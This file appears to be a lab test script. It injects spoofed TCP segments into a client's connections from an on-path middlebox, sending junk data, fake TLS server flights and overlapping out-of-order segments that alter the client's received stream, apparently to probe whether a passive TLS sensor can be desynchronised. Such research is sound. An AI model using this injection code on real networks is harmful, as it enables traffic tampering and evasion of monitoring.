#!/usr/bin/env python3
"""Inject spoofed TCP segments into a client's connections: the attacks of an on-path
interceptor that wants a passive TLS sensor on the client to see bytes the client's own TCP
never accepts.

Run inside the middlebox namespace, on its interface towards the client (--iface). It sniffs
the connections between --client and --server:--port (both directions pass that interface:
the client's packets arrive there, the forwarded server packets leave there) and sends
segments to the client spoofed from --server:--port, at layer 3 through a raw IP socket (the
kernel routes them out of --iface and resolves the client's MAC address itself). Connections
are told apart by the client's port; a new SYN from a port starts its state afresh.

  junk      On a SYN from the client (one per connection attempt: a retransmitted SYN with the
            same ISN gets nothing), send b"JUNK " * 20 + b"\\r\\n" to the client while its socket
            is in SYN_SENT. --mode no-ack: flags P only (a Linux client drops it silently).
            --mode stale: flags PA with random 32-bit seq and ack (a Linux client in SYN_SENT
            drops it and answers with a RST carrying that ack as its seq, which the server
            ignores; in ESTABLISHED it would answer with a duplicate ACK).
  flight    Learn the server's ISN from the SYN-ACK; when the client's first payload segment
            (its ClientHello) is seen, send the raw bytes of --payload (a fake TLS server flight,
            see tls12_flight.py) to the client in 1200-byte segments with consecutive sequence
            numbers. --mode no-ack: flags P, seq = ISN+1 onward, exactly where the real flight
            goes (in sequence, but without ACK a Linux client's TCP discards it). --mode stale:
            flags PA, ack = the client's next seq, seq = ISN+1 - len(payload) - 5000 (wholly
            before anything the client received, so discarded as old; the client answers with
            duplicate ACKs).
  overlap   On the first server-to-client payload segment of a connection (seq S, len L, ack A),
            send ahead of it, with flags PA and ack A, 600 bytes of b"A" at S+L+3000 and then
            600 bytes of b"B" at S+L+3300: 300 bytes overlap with different content. A Linux
            client queues both out of order. When the real in-order data reaches S+L+3000, the
            bytes beyond the end of that real segment come from the queued ones (the A segment
            wins the overlap, then the 300 bytes of B beyond it) and the real bytes for them
            are later dropped as duplicates; a real segment reaching S+L+3900 or further makes
            the queued ones obsolete.

Prints "ready" on stdout once sniffing; one line per injection on stderr. Exits on SIGTERM or
SIGINT. Needs CAP_NET_RAW (root).
"""

import argparse
import os

from scapy.all import IP, TCP, Raw, send
from scapy.supersocket import L3RawSocket

import sniffing
from labtool import log

JUNK = b"JUNK " * 20 + b"\r\n"
SEGMENT = 1200
MOD = 1 << 32



def payload_len(ip: IP) -> int:
    """TCP payload length from the headers (scapy's Raw may include link-layer padding)."""
    return ip.len - ip.ihl * 4 - ip[TCP].dataofs * 4


def rand32() -> int:
    return int.from_bytes(os.urandom(4), "big")


class Injector:
    def __init__(self, args: argparse.Namespace) -> None:
        self.args = args
        self.conns: dict[int, dict] = {}  # client port -> state
        self.payload = b""
        if args.attack == "flight":
            with open(args.payload, "rb") as f:
                self.payload = f.read()
        # A raw IP socket (IP_HDRINCL): the kernel routes and resolves the next hop's MAC, so
        # the first injection does not wait for scapy's own ARP.
        self.sock = L3RawSocket()

    def to_client(self, cport: int, flags: str, seq: int, ack: int, data: bytes) -> IP:
        a = self.args
        return (
            IP(src=a.server, dst=a.client)
            / TCP(sport=a.port, dport=cport, flags=flags, seq=seq % MOD, ack=ack % MOD,
                  window=65535)
            / Raw(data)
        )

    def handle(self, pkt) -> None:
        if IP not in pkt or TCP not in pkt:
            return
        ip, tcp, a = pkt[IP], pkt[TCP], self.args
        if ip.src == a.client and ip.dst == a.server and tcp.dport == a.port:
            from_client, cport = True, tcp.sport
        elif ip.src == a.server and ip.dst == a.client and tcp.sport == a.port:
            from_client, cport = False, tcp.dport
        else:
            return
        flags = tcp.flags
        if from_client and flags.S and not flags.A:
            state = self.conns.get(cport)
            if state is not None and state.get("client_isn") == tcp.seq:
                return  # a retransmitted SYN
            self.conns[cport] = state = {"client_isn": tcp.seq}
            if a.attack == "junk":
                self.junk(cport)
            return
        state = self.conns.setdefault(cport, {})
        if a.attack == "flight":
            if not from_client and flags.S and flags.A:
                state["server_isn"] = tcp.seq
            elif from_client and payload_len(ip) > 0 and "server_isn" in state:
                if not state.get("done"):
                    state["done"] = True
                    self.flight(cport, state["server_isn"], tcp.seq + payload_len(ip))
        elif a.attack == "overlap":
            n = payload_len(ip)
            if not from_client and n > 0 and not state.get("done"):
                state["done"] = True
                self.overlap(cport, tcp.seq, n, tcp.ack)

    def junk(self, cport: int) -> None:
        if self.args.mode == "no-ack":
            pkt = self.to_client(cport, "P", rand32(), 0, JUNK)
        else:
            pkt = self.to_client(cport, "PA", rand32(), rand32(), JUNK)
        send(pkt, socket=self.sock, verbose=False)
        log(f"junk ({self.args.mode}) -> client port {cport}, seq {pkt[TCP].seq}")

    def flight(self, cport: int, server_isn: int, client_next: int) -> None:
        if self.args.mode == "no-ack":
            flags, seq, ack = "P", server_isn + 1, 0
        else:
            flags, ack = "PA", client_next
            seq = server_isn + 1 - len(self.payload) - 5000
        pkts = [
            self.to_client(cport, flags, seq + off, ack, self.payload[off : off + SEGMENT])
            for off in range(0, len(self.payload), SEGMENT)
        ]
        send(pkts, socket=self.sock, verbose=False)
        log(
            f"flight ({self.args.mode}) -> client port {cport}: {len(self.payload)} bytes in "
            f"{len(pkts)} segments from seq {seq % MOD} (server ISN {server_isn})"
        )

    def overlap(self, cport: int, seq: int, length: int, ack: int) -> None:
        base = seq + length
        pkts = [
            self.to_client(cport, "PA", base + 3000, ack, b"A" * 600),
            self.to_client(cport, "PA", base + 3300, ack, b"B" * 600),
        ]
        send(pkts, socket=self.sock, verbose=False)
        log(
            f"overlap -> client port {cport}: A at {(base + 3000) % MOD}, "
            f"B at {(base + 3300) % MOD} (first server segment seq {seq}, len {length})"
        )


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--iface", required=True, help="the middlebox's interface towards the client")
    ap.add_argument("--client", required=True, help="the client's IPv4 address")
    ap.add_argument("--server", required=True, help="the server's IPv4 address")
    ap.add_argument("--port", required=True, type=int, help="the server's TCP port")
    sub = ap.add_subparsers(dest="attack", required=True)
    p = sub.add_parser("junk", help="junk to the client while its socket is in SYN_SENT")
    p.add_argument("--mode", choices=["no-ack", "stale"], required=True)
    p = sub.add_parser("flight", help="a fake server flight the client's TCP discards")
    p.add_argument("--mode", choices=["no-ack", "stale"], required=True)
    p.add_argument("--payload", required=True, help="raw bytes of the fake flight")
    sub.add_parser("overlap", help="two overlapping out-of-order segments")
    args = ap.parse_args()

    injector = Injector(args)
    try:
        between = f"host {args.client} and host {args.server} and port {args.port}"
        sniffing.serve(args.iface, f"tcp and {between}", injector.handle)
    finally:
        injector.sock.close()


if __name__ == "__main__":
    main()
